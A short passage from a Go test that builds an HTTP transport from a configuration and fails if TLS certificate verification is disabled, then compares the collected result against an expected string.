			transport, err := c.Transport(func(string) ([]byte, error) { return nil, fs.ErrNotExist })
			if err != nil {
				got += "transport"
			} else if transport.TLSClientConfig.InsecureSkipVerify {
				t.Errorf("%s: certificates are not verified", lines)
			}
		}
		if got != want {
			t.Errorf("%s: %q, want %q", lines, got, want)
		}
	}
}
